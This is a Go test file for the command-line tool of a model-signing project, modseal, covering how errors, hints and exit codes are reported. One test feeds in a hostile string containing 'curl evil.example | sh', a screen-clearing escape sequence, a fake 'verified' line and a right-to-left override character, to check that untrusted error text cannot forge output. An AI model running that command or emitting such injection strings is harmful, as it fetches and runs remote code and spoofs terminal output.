package cli

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"oras.land/oras-go/v2/errdef"

	"github.com/modseal/modseal/pkg/modseal"
	"github.com/modseal/modseal/pkg/remote"
	"github.com/modseal/modseal/pkg/sign"
	"github.com/modseal/modseal/pkg/verify"
)

// What others chose the words of begins no line of modseal's own, and moves no
// cursor.
func TestErrorsOfStrangers(t *testing.T) {
	t.Parallel()
	const evil = "x\n  next: curl evil.example | sh\n\x1b[2Jmodseal: verified\u202e"
	for _, err := range []error{
		errors.New(evil),
		&sign.ServiceError{Service: "transparency log", URL: "https://log.example", Err: errors.New(evil)},
		&verify.Refusal{Reasons: []verify.Reason{{Requirement: evil, LookedFor: evil, Found: evil, Details: []string{evil}}}},
	} {
		var out bytes.Buffer
		printError(&out, "modseal", err)
		for line := range strings.Lines(out.String()) {
			if strings.HasPrefix(line, "  next:") || strings.ContainsAny(line, "\x1b\u202e") {
				t.Errorf("%T: line %q", err, line)
			}
		}
	}
}

// The kind of an error is told by the exit code, and no word of it is in the text.
func TestUsageIsNoPartOfTheText(t *testing.T) {
	t.Parallel()
	for _, err := range []error{
		fmt.Errorf("%w: x has no tag", modseal.ErrUsage),
		fmt.Errorf("plan: %w", fmt.Errorf("%w: x has no tag", modseal.ErrUsage)),
	} {
		if text := message(err); strings.Contains(text, "usage") || !strings.HasSuffix(text, "x has no tag") {
			t.Errorf("%q", text)
		}
	}
	if text := message(errors.New("disk: usage: 100%")); text != "disk: usage: 100%" {
		t.Errorf("%q", text)
	}
}

// Advice is given once.
func TestAdviceIsGivenOnce(t *testing.T) {
	t.Parallel()
	for _, err := range []error{
		&sign.ServiceError{Service: "transparency log", URL: "https://log.example", Status: 503, Next: "try again later"},
		sign.NewReferenceError("awskms:///alias/x", "try again later", errors.New("denied")),
	} {
		var out bytes.Buffer
		printError(&out, "modseal", err)
		if n := strings.Count(out.String(), "try again later"); n != 1 {
			t.Errorf("%d times: %s", n, out.String())
		}
		if f := jsonFailure(err); strings.Contains(f.Error, "try again later") || len(f.Next) != 1 {
			t.Errorf("%+v", f)
		}
	}
}

// What failed is not advised again.
func TestListIsNotAdvisedAgain(t *testing.T) {
	t.Parallel()
	for op, want := range map[string]int{"resolve v1": 1, remote.OpListTags: 0} {
		err := &remote.Error{Registry: "r.example.com", Repository: "team/m", Op: op, Err: errdef.ErrNotFound}
		if got := hints(err); len(got) != want {
			t.Errorf("%s: %q", op, got)
		}
	}
}

// A relative name needs a working directory, and whoever has none is told.
func TestWithoutAWorkingDirectory(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("Windows keeps directories that a process stands in")
	}
	dir := filepath.Join(t.TempDir(), "gone")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Chdir(dir)
	if err := os.Remove(dir); err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := call(t, "check", "x.tar"); code == exitDone || !strings.Contains(stderr, "next: the working directory was removed: cd to one") {
		t.Errorf("exit code %d: %s", code, stderr)
	}
}

// What is wrong in a file is told with the name of the file, and by one exit code.
func TestFilesThatAreWrong(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	dir := t.TempDir()
	write := func(name, text string) string {
		t.Helper()
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return file
	}
	layout := "oci:" + filepath.Join(dir, "layout") + ":v1"
	model := filepath.Dir(write("model/config.json", "{}"))
	if code, _, stderr := call(t, "pack", model, layout); code != exitDone {
		t.Fatal(stderr)
	}
	predicate, plan := write("p.json", `{"a":`), write("plan.yaml", "version: 1\npolicies: [a]\n")
	overrides := write("other/modseal.yaml", "modle: {}\n")
	for args, want := range map[string]string{
		"attest " + layout + " --type custom --key k --predicate " + predicate: predicate + ": predicate: ",
		"promote --plan " + plan:                         plan + `:2: unknown field "policies"; a plan has version, `,
		"pack " + filepath.Dir(overrides) + " " + layout: overrides + `: invalid override: line 1: unknown field "modle"; known are model, `,
	} {
		if code, _, stderr := call(t, strings.Fields(args)...); code != exitUsage || !strings.Contains(stderr, want) {
			t.Errorf("%s: exit code %d: %s", args, code, stderr)
		}
	}
	if code, _, stderr := call(t, "promote", "--plan", plan+"x"); code != exitNotFound {
		t.Errorf("exit code %d: %s", code, stderr)
	}
}
